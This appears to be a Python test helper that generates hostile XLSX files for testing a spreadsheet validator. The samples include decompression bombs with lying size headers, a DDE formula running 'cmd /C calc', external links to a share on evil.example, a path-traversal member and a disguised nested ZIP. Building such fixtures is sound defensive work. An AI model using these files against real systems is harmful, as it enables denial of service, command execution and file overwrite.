"""Real hostile XLSX files, built byte by byte so a test stays small and fast.

``zip_archive`` writes a ZIP from members whose headers may lie; ``repeated_deflate`` makes the
deflate stream of one block repeated N times without compressing N blocks (after a full flush a
deflate stream forgets its history, so every block compresses to the same bytes) and its CRC
with zlib's ``crc32_combine`` (ported: Python's zlib lacks it). A 1 GB ``sharedStrings.xml``
costs a test about 1 MB and a few milliseconds.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass, replace

# ---------------------------------------------------------------- crc32 of repeated data


def _gf2_times(matrix: list[int], vector: int) -> int:
    total, i = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[i]
        vector >>= 1
        i += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, matrix[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """CRC-32 of A+B from crc(A), crc(B) and len(B) (zlib's crc32_combine)."""
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = _gf2_square(odd)
    odd = _gf2_square(even)
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def repeated_deflate(head: bytes, block: bytes, times: int, tail: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of ``head + block * times + tail``: (stream, crc32, inflated size)."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = co.compress(head) + co.flush(zlib.Z_FULL_FLUSH)
    segment = co.compress(block) + co.flush(zlib.Z_FULL_FLUSH)
    end = co.compress(tail) + co.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    block_crc, length = zlib.crc32(block), len(block)
    # crc of block*times by doubling
    rep_crc, rep_len, n = 0, 0, times
    power_crc, power_len = block_crc, length
    while n:
        if n & 1:
            rep_crc = crc32_combine(rep_crc, power_crc, power_len) if rep_len else power_crc
            rep_len += power_len
        power_crc = crc32_combine(power_crc, power_crc, power_len)
        power_len *= 2
        n >>= 1
    crc = crc32_combine(crc, rep_crc, rep_len)
    crc = crc32_combine(crc, zlib.crc32(tail), len(tail))
    return start + segment * times + end, crc, len(head) + rep_len + len(tail)


# ---------------------------------------------------------------- a ZIP whose headers may lie


@dataclass(frozen=True)
class Member:
    name: str
    stream: bytes  # as stored: raw deflate (method 8) or the bytes themselves (method 0)
    crc: int
    size: int  # the uncompressed size the headers declare
    method: int = 8
    flags: int = 0x800  # UTF-8 names

    @classmethod
    def deflated(cls, name: str, data: bytes) -> Member:
        co = zlib.compressobj(6, zlib.DEFLATED, -15)
        return cls(name, co.compress(data) + co.flush(), zlib.crc32(data), len(data))


def zip_archive(members: list[Member]) -> bytes:
    out = io.BytesIO()
    central = []
    for m in members:
        name = m.name.encode("utf-8")
        offset = out.tell()
        header = struct.pack(
            "<4s5H3L2H",
            b"PK\x03\x04",
            20,
            m.flags,
            m.method,
            0,
            0x21,
            m.crc,
            len(m.stream),
            m.size,
            len(name),
            0,
        )
        out.write(header + name + m.stream)
        central.append(
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                20,
                20,
                m.flags,
                m.method,
                0,
                0x21,
                m.crc,
                len(m.stream),
                m.size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )
    start = out.tell()
    directory = b"".join(central)
    out.write(directory)
    out.write(
        struct.pack(
            "<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), start, 0
        )
    )
    return out.getvalue()


# ---------------------------------------------------------------- workbooks


def workbook(rows: list[list[object]]) -> bytes:
    """A real XLSX written by openpyxl (shared strings, not inline)."""
    import warnings

    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        book.save(buffer)
    return buffer.getvalue()


def members_of(xlsx: bytes) -> list[Member]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [Member.deflated(i.filename, archive.read(i)) for i in archive.infolist()]


def _edit(members: list[Member], name: str, change) -> list[Member]:
    out = []
    for m in members:
        if m.name == name:
            inflated = zlib.decompress(m.stream, -15)
            m = Member.deflated(name, change(inflated))
        out.append(m)
    return out


GB = 1 << 30
CT = "[Content_Types].xml"


def bomb(base: bytes, inflated: int = GB, *, lie_size: int | None = None) -> bytes:
    """``base`` with a ``sharedStrings.xml`` of one string that inflates to ``inflated`` bytes
    from about ``inflated / 1000`` bytes. ``lie_size``: the size the headers declare instead."""
    head = b'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>'
    tail = b"</t></si></sst>"
    block = b"A" * (1 << 20)
    times = max((inflated - len(head) - len(tail)) // len(block), 1)
    stream, crc, size = repeated_deflate(head, block, times, tail)
    strings = Member("xl/sharedStrings.xml", stream, crc, size if lie_size is None else lie_size)
    members = [m for m in members_of(base) if m.name != "xl/sharedStrings.xml"]
    members = _edit(
        members,
        CT,
        lambda t: t.replace(
            b"</Types>",
            b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
            b'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        ),
    )
    members = _edit(
        members,
        "xl/_rels/workbook.xml.rels",
        lambda t: t.replace(
            b"</Relationships>",
            b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
            b"</Relationships>",
        ),
    )
    out = members + [strings]
    return zip_archive(out)


def _edit_named(base: bytes, extra: list[Member], edits: dict[str, object]) -> bytes:
    members = members_of(base)
    for name, change in edits.items():
        members = _edit(members, name, change)
    return zip_archive(members + extra)


def xlsm(base: bytes) -> bytes:
    """A macro-enabled book: vbaProject.bin (an OLE compound file), its relationship and the
    macroEnabled content type, as Excel saves an .xlsm."""
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b'Attribute VB_Name = "Module1"'
    return _edit_named(
        base,
        [Member.deflated("xl/vbaProject.bin", vba)],
        {
            CT: lambda t: t.replace(
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            ).replace(
                b"</Types>",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            ),
            "xl/_rels/workbook.xml.rels": lambda t: t.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
            ),
        },
    )


def only_macro_content_type(base: bytes) -> bytes:
    """No vbaProject.bin, only the macroEnabled content type (a renamed .xlsm)."""
    return _edit_named(
        base,
        [],
        {
            CT: lambda t: t.replace(
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            )
        },
    )


def external_link(base: bytes) -> bytes:
    """A book linked to another workbook on a network share (xl/externalLinks/)."""
    link = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<externalLink xmlns="http://schemas.'
        b'openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http:'
        b'//schemas.openxmlformats.org/officeDocument/2006/relationships"/></externalLink>'
    )
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
        b'schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        b'Target="file:///\\\\evil.example\\share\\book.xlsx" TargetMode="External"/>'
        b"</Relationships>"
    )
    return _edit_named(
        base,
        [
            Member.deflated("xl/externalLinks/externalLink1.xml", link),
            Member.deflated("xl/externalLinks/_rels/externalLink1.xml.rels", rels),
        ],
        {
            CT: lambda t: t.replace(
                b"</Types>",
                b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
            ),
            "xl/_rels/workbook.xml.rels": lambda t: t.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdExt" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
            ),
        },
    )


def external_relationship_only(base: bytes) -> bytes:
    """A relationship to an outside target (an attached template on a share), no extra part."""
    return _edit_named(
        base,
        [],
        {
            "xl/_rels/workbook.xml.rels": lambda t: t.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="\\\\evil.example\\x" TargetMode="External"/></Relationships>',
            )
        },
    )


def dde_formula(base: bytes) -> bytes:
    """A cell whose formula starts another program (DDE), with a harmless cached value."""
    return _edit_named(
        base,
        [],
        {
            "xl/worksheets/sheet1.xml": lambda t: t.replace(
                b"</row></sheetData>",
                b"<c r=\"Z1\"><f>cmd|' /C calc'!A0</f><v>0</v></c></row></sheetData>",
                1,
            )
        },
    )


def nested_zip(base: bytes) -> bytes:
    """A ZIP inside the book under an innocent name."""
    return _edit_named(base, [Member.deflated("xl/media/image1.png", base)], {})


def encrypted_member(base: bytes) -> bytes:
    members = members_of(base)
    members = [
        replace(m, flags=m.flags | 0x1) if m.name.endswith("sheet1.xml") else m for m in members
    ]
    return zip_archive(members)


def traversal(base: bytes) -> bytes:
    return _edit_named(base, [Member.deflated("../../../../var/lib/civic-owned.txt", b"owned")], {})


def many_members(base: bytes, count: int = 5000) -> bytes:
    return _edit_named(
        base, [Member.deflated(f"xl/media/p{i}.txt", b"x") for i in range(count)], {}
    )


def ratio_bomb(base: bytes) -> bytes:
    """Under every size cap (20 MB) but compressed a thousandfold."""
    return bomb(base, 20 * 1024 * 1024)


def lying_header(base: bytes) -> bytes:
    """The directory declares a 2 KB sharedStrings.xml; the stream inflates to 1 GB."""
    return bomb(base, GB, lie_size=2048)
